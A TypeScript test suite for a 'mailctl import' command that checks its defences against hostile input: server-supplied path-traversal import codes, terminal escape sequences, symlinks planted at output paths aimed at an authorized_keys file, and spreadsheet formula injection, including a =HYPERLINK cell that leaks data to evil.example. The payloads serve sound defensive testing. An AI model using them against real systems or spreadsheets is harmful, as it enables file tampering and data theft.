// `mailctl import` against hostile input (issue 10): a server that answers a traversal import
// code, a file whose header is 200 KB of binary, a symlink planted at the rejects path, cells
// that a spreadsheet would run as formulas, and the rejects file's privacy.
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { runCli, tempDir } from './helpers/cli.js';
import { HOSTILE_TEXT, reply, useHostileServer } from './helpers/hostile-server.js';
import { useSandbox } from './helpers/sandbox.js';
import { campaignApi, groupWith, IMPORT_BY_TEXT } from './helpers/campaign-api.js';

const sb = useSandbox({ expect: IMPORT_BY_TEXT });
const api = campaignApi(sb.get);
const hs = useHostileServer();

/** An empty group (the fixture's own request, plain HTTP). */
const newGroup = (name: string): Promise<string> => groupWith(api, [], name);

function write(name: string, content: string | Buffer): string {
  const file = path.join(tempDir('mailctl-import-hostile-'), name);
  fs.writeFileSync(file, content);
  return file;
}

const textImports = (sn: string) => sb.get().sandbox.requests('campaign').filter((r) => r.method === 'POST' && r.path === `/v1/contacts/imports/${sn}/text`);

describe('a server-chosen import code never becomes a path outside the folder (issue 10 item 1)', () => {
  const cwd = process.cwd();
  afterEach(() => process.chdir(cwd));

  it('import - --wait --download-failures names the failure file after a reduced code, here', async () => {
    const here = tempDir('mailctl-cwd-');
    const victim = tempDir('mailctl-victim-');
    fs.writeFileSync(path.join(victim, 'evil.failures.csv'), 'precious');
    // Enough ../ to climb from any working folder to the root, then down into the victim folder.
    const code = `x/${'../'.repeat(here.split(path.sep).length + 2)}${victim.slice(1)}/evil`;
    const h = hs.get();
    h.on('GET', '/campaign/v1/contacts/lists', reply.json([{ sn: 'LS1', name: 'Readers', status: 'GENERAL' }]));
    h.on('POST', '/campaign/v1/contacts/imports/LS1/text', reply.json({ importSn: code }));
    h.on('GET', /^\/campaign\/v1\/contacts\/imports\/result\//, reply.json({ importSn: code, status: 'COMPLETE', fileCnt: 1, insertCnt: 0, duplicateCnt: 0, errCnt: 1, errorDownloadLink: `${h.url}/files/failures.csv` }));
    h.on('GET', '/files/failures.csv', reply.text('EMAIL,NAME,ERROR\na@example.com,A,bad\n'));

    process.chdir(here);
    const r = await runCli(['import', '-', '--group', 'LS1', '--wait', '--download-failures'], { env: h.env, stdin: 'EMAIL,NAME\na@example.com,A\n' });
    expect(r.exitCode).toBe(5); // the service refused the row
    expect(fs.readFileSync(path.join(victim, 'evil.failures.csv'), 'utf8')).toBe('precious');
    const saved = fs.readdirSync(here);
    expect(saved).toHaveLength(1);
    expect(saved[0]).toMatch(/^import-x_[A-Za-z0-9._-]*evil\.failures\.csv$/);
    expect(fs.readFileSync(path.join(here, saved[0]), 'utf8')).toContain('a@example.com,A,bad');
  });
});

describe('a bad header is echoed short and harmless (issue 10 item 2)', () => {
  it('200 KB of binary where the header should be: one short sentence, no escape sequence, nothing sent', async () => {
    const binary = Buffer.alloc(200_000);
    for (let i = 0; i < binary.length; i++) binary[i] = [0x1b, 0x07, 0x5d, 0x41, 0x9b & 0x7f, 0x0c][i % 6];
    const file = write('binary.csv', Buffer.concat([Buffer.from('\u001b]0;owned\u0007'), binary, Buffer.from(',NAME\na@example.com,A\n')]));
    const before = sb.get().sandbox.requests().length;
    const r = await runCli(['import', file, '--group', 'Anything'], { sandbox: sb.get() });
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(/The first column of .* is ".*", not EMAIL/);
    expect(r.stderr.length).toBeLessThan(1500);
    expect(r.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    expect(sb.get().sandbox.requests().length).toBe(before);
  });
});

describe('the rejects path (issue 10 items 3 and 9)', () => {
  it('a symlink there is refused (exit 2, nothing sent, its target untouched); --force replaces the link, never writing through it', async () => {
    const dir = tempDir('mailctl-link-');
    const victim = path.join(tempDir('mailctl-victim-'), 'authorized_keys');
    fs.writeFileSync(victim, 'ssh-ed25519 AAAA precious\n');
    const file = path.join(dir, 'c.csv');
    fs.writeFileSync(file, 'EMAIL,NAME\nok@example.com,Ok\nnot-an-email,Bad\n');
    const rejects = path.join(dir, 'c.rejects.csv');
    fs.symlinkSync(victim, rejects);
    const sn = await newGroup('Linked');

    const refused = await runCli(['import', file, '--group', sn, '--no-wait'], { sandbox: sb.get() });
    expect(refused.exitCode).toBe(2);
    expect(refused.stderr).toMatch(/is a symbolic link/);
    expect(refused.stderr).toMatch(/--force/);
    expect(textImports(sn)).toHaveLength(0);
    expect(fs.readFileSync(victim, 'utf8')).toBe('ssh-ed25519 AAAA precious\n');

    const forced = await runCli(['import', file, '--group', sn, '--no-wait', '--force'], { sandbox: sb.get() });
    expect(forced.exitCode).toBe(5);
    expect(fs.lstatSync(rejects).isSymbolicLink()).toBe(false);
    expect(fs.readFileSync(rejects, 'utf8')).toMatch(/^LINE,REASON,EMAIL,NAME\n3,.*not-an-email,Bad\n$/);
    expect(fs.readFileSync(victim, 'utf8')).toBe('ssh-ed25519 AAAA precious\n');
  });

  it('the rejects file is private (0600), also when it replaces an older, wider one', async () => {
    const file = write('p.csv', 'EMAIL,NAME\nnope,N\n');
    const rejects = file.replace(/\.csv$/, '.rejects.csv');
    fs.writeFileSync(rejects, 'LINE,REASON,EMAIL,NAME\n2,old,x,y\n', { mode: 0o644 });
    fs.chmodSync(rejects, 0o644);
    const r = await runCli(['import', file, '--group', 'G', '--dry-run', '--rejects', rejects]);
    expect(r.exitCode).toBe(2); // its only row is rejected
    expect(fs.statSync(rejects).mode & 0o777).toBe(0o600);
    expect(parse(fs.readFileSync(rejects))).toEqual([['LINE', 'REASON', 'EMAIL', 'NAME'], ['2', 'EMAIL "nope" has no @', 'nope', 'N']]);
  });
});

describe('formula-like cells (issue 10 item 7)', () => {
  it('are written as text in the rejects file, and uploaded exactly as they are', async () => {
    const sn = await newGroup('Formulas');
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const file = write('f.csv', `EMAIL,NAME\r\nok@example.com,"${formula.replace(/"/g, '""')}"\r\nbad,"${formula.replace(/"/g, '""')}"\r\n@SUM(1+1),+cmd\r\n`);
    const r = await runCli(['import', file, '--group', sn, '--no-wait'], { sandbox: sb.get() });
    expect(r.exitCode).toBe(5);
    const rows = parse(fs.readFileSync(file.replace(/\.csv$/, '.rejects.csv')), { relax_column_count: true }) as string[][];
    expect(rows.slice(1).map((x) => x.slice(2))).toEqual([['bad', `'${formula}`], ["'@SUM(1+1)", "'+cmd"]]);
    expect(parse((textImports(sn)[0].body as { contacts: string }).contacts)).toEqual([['EMAIL', 'NAME'], ['ok@example.com', formula]]);
  });
});

describe('a hostile import code and status never reach the terminal raw (issue 10 item 2)', () => {
  const CODE = `IM1${HOSTILE_TEXT.osc}`;
  const STATUS = `RUN${HOSTILE_TEXT.clear}`;
  const RAW = /\u001b\]0;owned|\u001b\[2J/; // the server's own sequences (ora draws with others)

  function serve(statuses: string[]): void {
    const h = hs.get();
    h.on('GET', '/campaign/v1/contacts/lists', reply.json([{ sn: 'LS1', name: 'Readers', status: 'GENERAL' }]));
    h.on('POST', '/campaign/v1/contacts/imports/LS1/text', reply.json({ importSn: CODE }));
    let i = 0;
    h.on('GET', /^\/campaign\/v1\/contacts\/imports\/result\//, (res, seen, req) => {
      const status = statuses[Math.min(i++, statuses.length - 1)];
      const done = status === 'COMPLETE' ? { fileCnt: 1, insertCnt: 1, duplicateCnt: 0, errCnt: 0 } : {};
      return reply.json({ importSn: CODE, status, ...done })(res, seen, req);
    });
  }

  it('import - --no-wait on a terminal: the code and status are shown escaped, on stdout and stderr', async () => {
    serve([STATUS]);
    const r = await runCli(['import', '-', '--group', 'LS1', '--no-wait'], { env: { ...hs.get().env, NO_COLOR: '1' }, tty: true, stdin: 'EMAIL,NAME\na@example.com,A\n' });
    expect(r.exitCode).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stderr).not.toMatch(RAW);
    expect(r.stderr).toContain('Import IM1Title\\e]0;owned by the server\\x07 group is RUNClear\\e[2J\\e[H screen.');
  });

  it('import - --no-wait piped: the code alone, as one safe TSV cell', async () => {
    serve([STATUS]);
    const r = await runCli(['import', '-', '--group', 'LS1', '--no-wait'], { env: hs.get().env, stdin: 'EMAIL,NAME\na@example.com,A\n' });
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toBe('IM1Title\\e]0;owned by the server\\x07 group\n');
  });

  it('import - --wait on a terminal, spinner running: its label carries the code escaped', async () => {
    serve([STATUS, STATUS, 'COMPLETE']);
    const r = await runCli(['import', '-', '--group', 'LS1', '--wait'], { env: { ...hs.get().env, NO_COLOR: '1' }, tty: true, stdin: 'EMAIL,NAME\na@example.com,A\n' });
    expect(r.exitCode).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stderr).not.toMatch(RAW);
    expect(r.stderr).toContain('Import IM1Title\\e]0;owned by the server\\x07 group:'); // the spinner was drawn
  });
});

describe('--download-failures never overwrites without --force, and never writes through a link', () => {
  const cwd = process.cwd();
  afterEach(() => process.chdir(cwd));
  const STDIN = 'EMAIL,NAME\na@example.com,A\n';

  function serveFailures(code = 'IM7'): void {
    const h = hs.get();
    h.on('GET', '/campaign/v1/contacts/lists', reply.json([{ sn: 'LS1', name: 'Readers', status: 'GENERAL' }]));
    h.on('POST', '/campaign/v1/contacts/imports/LS1/text', reply.json({ importSn: code }));
    h.on('GET', /^\/campaign\/v1\/contacts\/imports\/result\//, reply.json({ importSn: code, status: 'COMPLETE', fileCnt: 1, insertCnt: 0, duplicateCnt: 0, errCnt: 1, errorDownloadLink: `${h.url}/files/failures.csv` }));
    h.on('GET', '/files/failures.csv', reply.text('EMAIL,NAME,ERROR\na@example.com,A,bad\n'));
  }
  const imports = () => hs.get().requests.filter((q) => q.method === 'POST');

  it('import FILE: an existing FILE.failures.csv is refused before anything is sent (exit 2); --force replaces it', async () => {
    serveFailures();
    const dir = tempDir('mailctl-failures-');
    const file = path.join(dir, 'c.csv');
    fs.writeFileSync(file, STDIN);
    const failures = path.join(dir, 'c.failures.csv');
    fs.writeFileSync(failures, 'precious');

    const refused = await runCli(['import', file, '--group', 'LS1', '--download-failures'], { env: hs.get().env });
    expect(refused.exitCode).toBe(2);
    expect(refused.stderr).toMatch(/c\.failures\.csv \(--download-failures\) already exists/);
    expect(refused.stderr).toMatch(/--force/);
    expect(hs.get().requests).toHaveLength(0);
    expect(fs.readFileSync(failures, 'utf8')).toBe('precious');

    const forced = await runCli(['import', file, '--group', 'LS1', '--download-failures', '--force'], { env: hs.get().env });
    expect(forced.exitCode).toBe(5);
    expect(fs.readFileSync(failures, 'utf8')).toBe('EMAIL,NAME,ERROR\na@example.com,A,bad\n');
  });

  it('import status SN --download-failures FILE: an existing FILE is refused before the lookup (exit 2)', async () => {
    serveFailures();
    const failures = path.join(tempDir('mailctl-failures-'), 'f.csv');
    fs.writeFileSync(failures, 'precious');
    const r = await runCli(['import', 'status', 'IM7', '--download-failures', failures], { env: hs.get().env });
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(/already exists/);
    expect(hs.get().requests).toHaveLength(0);
    expect(fs.readFileSync(failures, 'utf8')).toBe('precious');
  });

  it('import status SN --download-failures: an existing import-SN.failures.csv here is refused too', async () => {
    serveFailures();
    const here = tempDir('mailctl-cwd-');
    fs.writeFileSync(path.join(here, 'import-IM7.failures.csv'), 'precious');
    process.chdir(here);
    const r = await runCli(['import', 'status', 'IM7', '--download-failures'], { env: hs.get().env });
    expect(r.exitCode).toBe(2);
    expect(hs.get().requests).toHaveLength(0);
    expect(fs.readFileSync(path.join(here, 'import-IM7.failures.csv'), 'utf8')).toBe('precious');
  });

  it('import - --download-failures: a file already at the name the service\'s code gives is kept, and the run says so', async () => {
    serveFailures('IM8');
    const here = tempDir('mailctl-cwd-');
    fs.writeFileSync(path.join(here, 'import-IM8.failures.csv'), 'precious');
    process.chdir(here);
    const r = await runCli(['import', '-', '--group', 'LS1', '--wait', '--download-failures'], { env: hs.get().env, stdin: STDIN });
    expect(r.exitCode).toBe(5);
    expect(imports()).toHaveLength(1); // the import itself went ahead
    expect(r.stderr).toMatch(/import-IM8\.failures\.csv already exists, so the service's failure file was not saved/);
    expect(r.stderr).toContain('mailctl import status IM8 --download-failures FILE');
    expect(fs.readFileSync(path.join(here, 'import-IM8.failures.csv'), 'utf8')).toBe('precious');
  });

  it('a symlink at --download-failures FILE is refused; with --force the link is replaced, its target untouched', async () => {
    serveFailures();
    const dir = tempDir('mailctl-failures-');
    const victim = path.join(tempDir('mailctl-victim-'), 'authorized_keys');
    fs.writeFileSync(victim, 'precious');
    const link = path.join(dir, 'f.csv');
    fs.symlinkSync(victim, link);
    const refused = await runCli(['import', 'status', 'IM7', '--download-failures', link], { env: hs.get().env });
    expect(refused.exitCode).toBe(2);
    expect(refused.stderr).toMatch(/is a symbolic link/);
    const forced = await runCli(['import', 'status', 'IM7', '--download-failures', link, '--force'], { env: hs.get().env });
    expect(forced.exitCode).toBe(5);
    expect(fs.lstatSync(link).isSymbolicLink()).toBe(false);
    expect(fs.readFileSync(link, 'utf8')).toContain('a@example.com,A,bad');
    expect(fs.readFileSync(victim, 'utf8')).toBe('precious');
  });
});
